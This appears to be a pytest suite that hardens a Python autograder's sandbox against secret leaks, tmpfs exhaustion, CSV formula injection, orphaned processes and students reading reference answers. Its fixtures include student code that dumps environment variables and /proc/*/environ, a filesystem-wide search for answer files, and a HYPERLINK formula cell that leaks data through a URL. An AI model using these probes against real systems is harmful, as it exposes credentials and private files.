"""Sandbox hardening: no grader secrets reach student code, RAM-backed folders are bounded, CSV cells cannot
run as formulas, SIGTERM stops a class run cleanly, and the answers stay unreadable in every isolation mode
(bubblewrap working, bubblewrap failing as Docker's seccomp profile makes it fail, no bubblewrap at all)."""

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from autograder.classroom.batch import grade_class
from autograder.files import spreadsheet_safe
from autograder.classroom.gradebook import ClassSettings, write_gradebook
from autograder.grading.grade import grade_submission
from autograder.course.assignments import PROJECT_ROOT
from autograder.sandbox.limits import Limits
from submissions import SOLUTIONS, stub_source, with_replacements

pytestmark = pytest.mark.slow
needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap (bwrap)")
SECRET = "s3cr3t-token-that-must-never-leave-the-grader"
# A line of the reference body that appears nowhere else: finding it means the reference was read.
REFERENCE_LINE = next(line.strip() for line in (SOLUTIONS / "convolution.py").read_text().splitlines()
                      if "img[i + k, j + l] * kernel[k, l]" in line)

SUITE_LINE = next(line.strip() for line in (PROJECT_ROOT / "autograder" / "suites" / "convolution" /
                                             "test_apply_convolution.py").read_text().splitlines()
                  if line.startswith("def test_"))


def all_text_under(folder: Path) -> str:
    return "\n".join(path.read_text(errors="replace") for path in folder.rglob("*") if path.is_file())


def test_does_no_secret_of_the_graders_environment_reach_anything_the_grader_writes(tmp_path, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("LMS_TOKEN", SECRET)
    snoop = '''
def sobel_magnitude(img):
    import glob, os
    print("ENVIRONMENT", dict(os.environ))
    for path in glob.glob("/proc/*/environ"):  # the grader's own environment, if it can be reached
        try:
            print(path, open(path, "rb").read().decode(errors="replace"))
        except OSError as error:
            print(path, type(error).__name__)
    raise RuntimeError("ENVIRONMENT " + " ".join(f"{k}={v}" for k, v in os.environ.items()))
'''
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "snoop.py").write_text(with_replacements("convolution", {"sobel_magnitude": snoop}))
    out = tmp_path / "out"
    grade_class(submissions=folder, assignment="convolution", out=out, workers=1)
    written = all_text_under(out)
    assert "ENVIRONMENT" in written and "PATH=" in written  # the snooping ran and its output was kept
    assert SECRET not in written


@needs_bwrap
@pytest.mark.parametrize("folder", ["/tmp", "/dev/shm"])
def test_is_each_ram_backed_folder_capped_with_a_clear_message(tmp_path, folder):
    """Fill the folder until it is full: the cap holds, the student is told, nothing leaks to the host."""
    fill = f'''
def sobel_magnitude(img):
    import os, time
    assert os.environ["HOME"] == "/tmp"  # HOME is the private /tmp, under the same cap
    writable = []  # RAM-backed mounts this process can reach by their path and write to
    for line in open("/proc/self/mountinfo"):
        fields, source = line.split(" - ")
        fields = fields.split()
        device, point = fields[2].split(":"), fields[4]
        if source.startswith("tmpfs") and " rw," in " ".join(fields) + ",":
            try:
                here = os.stat(point).st_dev
            except OSError:
                continue
            if (os.major(here), os.minor(here)) == tuple(map(int, device)) and os.access(point, os.W_OK):
                writable.append(point + "=" + source.split("size=")[1].split(",")[0].strip())
    print("WRITABLE TMPFS", " ".join(writable))
    written, started, chunk = 0, time.monotonic(), b"x" * 2**20
    try:
        for index in range(10_000):
            with open(f"{folder}/fill{{index}}", "wb") as handle:
                for _ in range(8):
                    handle.write(chunk)
                    written += len(chunk)
    finally:
        print("WRITTEN", written, "IN", round(time.monotonic() - started, 3))
'''
    limits = Limits(call_timeout_s=20, tmp_bytes=24 * 2**20, shm_bytes=12 * 2**20)
    path = tmp_path / "fill.py"
    path.write_text(with_replacements("convolution", {"sobel_magnitude": fill}))
    result = grade_submission(path, "convolution", limits=limits)
    sobel = [t for t in result.tests if t.question == "sobel_magnitude" and "WRITTEN" in t.output]
    assert sobel, [(t.name, t.message[:800], t.output[:300]) for t in result.tests if t.question == "sobel_magnitude"]
    sobel = sobel[0]
    cap = limits.tmp_bytes if folder == "/tmp" else limits.shm_bytes
    written = int(sobel.output.split("WRITTEN ")[1].split()[0])
    assert cap - 2 * 2**20 <= written <= cap
    assert "no space left (the sandbox allows 24 MiB of files in /tmp and the home folder, and 12 MiB in " \
           "/dev/shm)" in sobel.message
    # Every writable RAM-backed mount in the sandbox has a size, and none is larger than the /tmp cap.
    mounts = dict(part.split("=") for part in sobel.output.split("WRITABLE TMPFS ")[1].split("\n")[0].split())
    assert {"/tmp", "/dev/shm"} <= set(mounts), mounts
    assert all(int(size.rstrip("k")) * 1024 <= limits.tmp_bytes for size in mounts.values()), mounts
    assert not list(Path("/dev/shm").glob("fill*"))  # the host's /dev/shm did not receive the files
    assert result.per_question()["apply_convolution"] == (5, 5)  # the rest of the submission is graded as usual


def test_are_formula_cells_neutralised_in_the_gradebook(tmp_path):
    hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    rows = [{"student": hostile, "compute_convolution_at_position": 3.0, "apply_convolution": 0.0,
             "sobel_magnitude": 0.0, "total": 3.0, "max_score": 11.0, "status": "ok"}]
    rows += [{"student": name, "compute_convolution_at_position": 0.0, "apply_convolution": 0.0,
              "sobel_magnitude": 0.0, "total": 0.0, "max_score": 11.0, "status": "ok"}
             for name in ("+cmd", "-2+3", "@SUM(A1)", "\tTAB", "alice")]
    write_gradebook(tmp_path, "convolution", ClassSettings("convolution"), rows)
    cells = [row["student"] for row in csv.DictReader((tmp_path / "gradebook.csv").open())]
    # a tab in an id is a hidden character: shown as its mark, which no spreadsheet runs
    assert cells == ["'" + hostile, "'+cmd", "'-2+3", "'@SUM(A1)", "<U+0009>TAB", "alice"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)
    assert spreadsheet_safe(3.0) == 3.0 and spreadsheet_safe(-1) == -1  # numbers stay numbers


def processes_of(marker: str) -> list[str]:
    """Every live process whose environment, command line or working folder mentions ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            text = (entry / "cmdline").read_bytes() + (entry / "environ").read_bytes()
            text += os.readlink(entry / "cwd").encode()
        except OSError:
            continue
        if marker.encode() in text:
            found.append(f"{entry.name}: {(entry / 'cmdline').read_bytes()[:200]!r}")
    return found


def make_class(folder: Path, count: int) -> Path:
    folder.mkdir(parents=True)
    for index in range(count):
        source = (SOLUTIONS / "shifted_mnist.py").read_text() if index % 2 == 0 else stub_source("shifted_mnist")
        (folder / f"student{index:02d}.py").write_text(source)
    return folder


# A launcher that leaves a process behind, as bwrap does when its parent is killed while it sets a sandbox up
# (its sandbox child then waits forever): a detached sleep, in the worker's folder, that no death signal reaches.
LEAKY_BWRAP = """#!/bin/sh
case "$*" in *autograder.worker.serve*) setsid sleep 300 </dev/null >/dev/null 2>&1 & ;; esac
exec {bwrap} "$@"
"""


def start_class_run(tmp_path: Path, count: int, leaky_launcher: bool = False):
    """`autograder grade` on a class of ``count`` (reference, stub, reference, ...), stopped once 2 are saved."""
    folder = make_class(tmp_path / "class", count)
    marker = f"autograder-stop-test-{tmp_path.name}-{os.getpid()}"
    scratch = tmp_path / marker  # the grader's TMPDIR: its workers' folders carry the marker
    scratch.mkdir()
    out = tmp_path / "out"
    command = [sys.executable, "-m", "autograder.cli", "grade", str(folder), "-a", "shifted_mnist", "--out", str(out),
               "--workers", "2"]
    environment = os.environ | {"TMPDIR": str(scratch), "STOP_TEST_MARKER": marker}
    if leaky_launcher:
        launcher = tmp_path / "leaky-bin"
        launcher.mkdir()
        (launcher / "bwrap").write_text(LEAKY_BWRAP.format(bwrap=shutil.which("bwrap")))
        (launcher / "bwrap").chmod(0o755)
        environment |= {"PATH": f"{launcher}:{os.environ['PATH']}", "AUTOGRADER_SANDBOX_MODES": "bwrap"}
    process = subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and len(list(out.glob("*/grading.json"))) < 2:
        time.sleep(0.1)
    assert len(processes_of(marker)) >= 3  # the grader, its pool, their workers
    return process, command, environment, marker, out


@pytest.mark.parametrize("stop", [signal.SIGTERM, pytest.param(signal.SIGHUP, marks=needs_bwrap)],
                         ids=["SIGTERM", "SIGHUP-leaky-launcher"])
def test_does_a_stop_signal_end_the_whole_class_run_and_a_rerun_finish_it(tmp_path, stop):
    """No pool process, worker or anything their launch left behind outlives the grader. (SIGHUP: with a bwrap
    that leaves a detached process behind each time it starts a worker.)"""
    count = 6
    process, command, environment, marker, out = start_class_run(tmp_path, count, leaky_launcher=stop == signal.SIGHUP)
    process.send_signal(stop)  # to the grader alone, as `kill PID` does
    output = process.communicate(timeout=60)[0]
    assert process.returncode == 128 + stop, output
    assert "Interrupted: finished students are saved" in output
    time.sleep(1)
    assert processes_of(marker) == []  # no pool process or worker outlives the grader
    saved = {p.parent.name: p.stat().st_mtime_ns for p in out.glob("*/grading.json")}
    assert 2 <= len(saved) < count and not list(out.glob("**/*.tmp"))
    if stop == signal.SIGHUP:
        return  # the rerun is the same as after SIGTERM
    rerun = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=300)
    assert rerun.returncode == 0, rerun.stdout + rerun.stderr
    assert {name: (out / name / "grading.json").stat().st_mtime_ns for name in saved} == saved  # not regraded
    # The gradebook of an uninterrupted run: reference code scores full marks, stubs nothing.
    rows = list(csv.DictReader((out / "gradebook.csv").open()))
    assert [(row["student"], row["total"], row["status"]) for row in rows] == [
        (f"student{index:02d}", "6.0" if index % 2 == 0 else "0.0", "ok") for index in range(count)]


ORPHAN = """
import os, sys, time
from autograder.sandbox.launch import Limits, _apply_limits
starter = os.getpid()
child = os.fork()
if child:
    print(child, flush=True)
    os._exit(0)  # the starter dies before its child has asked to die with it
while os.getppid() == starter:
    time.sleep(0.01)
_apply_limits(Limits(), limit_processes=False, parent=starter)  # what a worker runs between fork and exec
open(sys.argv[1], "w").write("still running after its starter died")
time.sleep(30)
"""


def test_does_a_worker_started_by_a_dying_process_exit_instead_of_living_on(tmp_path):
    """A pool process killed (by a stop signal) between forking a worker and the worker's exec: the worker
    cannot ask to be killed with a parent that is already gone, so it must exit by itself."""
    survived = tmp_path / "survived"
    starter = subprocess.run([sys.executable, "-c", ORPHAN, str(survived)], capture_output=True, text=True,
                             timeout=60)
    orphan = int(starter.stdout.split()[0])
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and Path(f"/proc/{orphan}").exists() and "Z" not in \
            Path(f"/proc/{orphan}/stat").read_text().split(")")[-1].split()[:1]:
        time.sleep(0.05)
    assert not survived.exists(), survived.read_text()


# -- the three isolation modes ----------------------------------------------------------------------
# The search runs once per worker process (a normal one and a blocked one): every later call reports it again.
SEARCH = f'''
SEARCHED = []


def apply_convolution(img, kernel):
    """Look everywhere for the reference and the hidden tests, then report what could be read."""
    import glob, os, time
    if SEARCHED:
        raise RuntimeError(SEARCHED[0])
    found, started = [], time.monotonic()
    candidates = [{str(PROJECT_ROOT / "solutions" / "convolution.py")!r},
                  {str(PROJECT_ROOT / "autograder" / "suites" / "convolution" / "test_apply_convolution.py")!r}]
    candidates += glob.glob("/proc/*/cwd/solutions/convolution.py") + glob.glob("/proc/*/root/work/*/solutions/*.py")
    for top, folders, files in os.walk("/"):
        if time.monotonic() - started > 2 or top.startswith(("/proc", "/sys", "/dev", "/usr", "/lib")):
            folders[:] = []
            continue
        candidates += [os.path.join(top, name) for name in files if name == "convolution.py"
                       or name.startswith("test_apply")]
    for candidate in candidates:
        try:
            text = open(candidate, errors="replace").read()
        except OSError:
            continue
        if {REFERENCE_LINE!r} in text or {SUITE_LINE!r} in text:
            found.append(candidate + ": " + text[:4000])
    SEARCHED.append(f"SEARCHED {{len(candidates)}} candidates; FOUND {{len(found)}}: " + " ".join(found))
    raise RuntimeError(SEARCHED[0])
'''


def fake_bwraps(tmp_path: Path) -> dict[str, str]:
    """PATH values: the real bwrap, one that fails as under Docker's seccomp profile, and none at all."""
    failing = tmp_path / "failing-bin"
    failing.mkdir()
    (failing / "bwrap").write_text("#!/bin/sh\necho 'bwrap: Creating new namespace failed: Operation not permitted' "
                                   ">&2\nexit 1\n")
    (failing / "bwrap").chmod(0o755)
    (tmp_path / "empty-bin").mkdir()
    return {"bwrap": os.environ["PATH"], "bwrap-fails": str(failing), "no-bwrap": str(tmp_path / "empty-bin")}


@needs_bwrap
@pytest.mark.parametrize("mode", ["bwrap", "bwrap-fails", "no-bwrap"])
def test_are_the_answers_unreadable_in_every_isolation_mode(tmp_path, mode):
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "correct.py").write_text((SOLUTIONS / "convolution.py").read_text())
    (folder / "searcher.py").write_text(with_replacements("convolution", {"apply_convolution": SEARCH}))
    out = tmp_path / "out"
    environment = os.environ | {"PATH": fake_bwraps(tmp_path)[mode], "AWS_SECRET_ACCESS_KEY": SECRET}
    run = subprocess.run([sys.executable, "-m", "autograder.cli", "grade", str(folder), "-a", "convolution", "--out",
                          str(out), "--workers", "2"], env=environment, capture_output=True, text=True, timeout=300)
    if run.returncode == 2 and "refusing to grade" in run.stderr:
        assert not (out / "searcher").exists()  # refused before any student code ran: acceptable, never a leak
        pytest.skip(f"no isolation works here without bwrap: {run.stderr.strip()[-300:]}")
    assert run.returncode == 0, run.stdout + run.stderr
    results = {student: json.loads((out / student / "grading.json").read_text()) for student in ("correct", "searcher")}
    assert results["correct"]["score"] == 11
    report = " ".join(test["message"] for test in results["searcher"]["tests"])
    assert "SEARCHED" in report and "FOUND 0:" in report, report[:3000]
    written = all_text_under(out)
    assert REFERENCE_LINE not in written and SECRET not in written
    isolation = results["searcher"]["isolation"]
    warnings = [line for line in run.stderr.splitlines() if "isolation:" in line]
    if mode == "bwrap":
        assert isolation.startswith("bwrap") and not warnings
    else:  # one warning line that says which isolation is in force, and the same in grading.json
        assert not isolation.startswith("bwrap") and isolation
        assert len(warnings) == 1 and isolation.split(" ")[0] in warnings[0], run.stderr
        assert ("Creating new namespace failed" if mode == "bwrap-fails" else "not installed") in isolation


def test_is_grading_refused_when_no_isolation_can_work(tmp_path, monkeypatch):
    """No bwrap, no Landlock, no sandbox uid: the grader refuses, and no student code runs."""
    marker = tmp_path / "ran"
    extra = f"\nRAN = open({str(marker)!r}, 'w').write('ran')\n\ndef uses():\n    return RAN\n"
    path = tmp_path / "student.py"
    path.write_text(with_replacements("convolution", {}, extra=extra))
    from autograder.sandbox import isolation
    from autograder.sandbox import isolation as sandbox

    monkeypatch.setattr(isolation, "bwrap_problem", lambda: "bwrap is not installed")
    monkeypatch.setattr(isolation, "landlock_abi", lambda: 0)
    sandbox._resolve.cache_clear()
    try:
        with pytest.raises(sandbox.IsolationUnavailable, match="refusing to grade: student code could read the"):
            grade_submission(path, "convolution", isolation=sandbox.Isolation(uid=None))
    finally:
        sandbox._resolve.cache_clear()
    assert not marker.exists()


STARTUP_PROBE = '''
def startup():
    import getpass
    import torch
    parameter = torch.zeros(2, requires_grad=True)
    optimizer = torch.optim.Adam([parameter], lr=0.1)  # imports torch._dynamo, which asks getpass.getuser()
    parameter.grad = torch.ones(2)
    optimizer.step()
    import threading
    with open(f"/proc/self/task/{threading.get_native_id()}/comm", "w") as comm:  # how CUDA names its threads
        comm.write("renamed")
    return {"user": getpass.getuser(), "devices": "Character devices" in open("/proc/devices").read(),
            "step": parameter.tolist(), "name": open(f"/proc/self/task/{threading.get_native_id()}/comm").read()}
'''


@pytest.mark.parametrize("mode", ["bwrap", "landlock"])
def test_does_student_code_get_what_torch_and_cuda_read_as_they_start_in_each_isolation_mode(tmp_path, mode):
    """A sandbox uid has no passwd entry (getpass.getuser() needs USER), and CUDA reads /proc/devices and names its
    threads in its own /proc/<pid> as it starts: all were missing under Landlock on an H100, where every optimizer
    (torch 2.11) and every CUDA test then failed."""
    from autograder.sandbox import isolation
    from autograder.submission.load import load_submission
    from autograder.sandbox.isolation import Isolation, default_isolation
    from autograder.sandbox.channel import StudentCode

    if mode == "bwrap" and shutil.which("bwrap") is None:
        pytest.skip("needs bubblewrap (bwrap)")
    if mode == "landlock" and isolation.landlock_abi() < 1:
        pytest.skip("needs a kernel with Landlock")
    path = tmp_path / "startup.py"
    path.write_text(STARTUP_PROBE)
    tmp_path.chmod(0o755)
    path.chmod(0o644)
    with StudentCode(load_submission(path), Limits(), Isolation(uid=default_isolation().uid, modes=(mode,))) as student:
        assert student.isolation.resolve().mode == mode
        value = student("startup")
    assert value["user"] == isolation.WORKER_USER and value["devices"] and value["name"] == "renamed\n", value
    assert value["step"] == pytest.approx([-0.1, -0.1], rel=1e-5), value
